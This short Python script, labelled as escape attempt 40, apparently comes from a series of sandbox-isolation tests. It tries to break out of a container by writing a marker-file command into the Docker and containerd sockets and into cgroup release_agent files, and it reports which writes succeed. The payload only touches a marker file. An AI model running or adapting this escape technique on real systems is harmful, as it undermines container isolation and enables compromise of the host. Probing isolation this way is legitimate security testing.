"""Escape attempt 40: docker or cgroup escape."""

# ruff: noqa  (an attack written to be run, not to be tidy)
import os

for p in (
    "/var/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/sys/fs/cgroup/release_agent",
    "/sys/fs/cgroup/pids/release_agent",
):
    try:
        open(p, "w").write("/bin/touch " + MARKER_DIR + "/cg")
        print("wrote", p)
    except Exception as e:
        print(e)
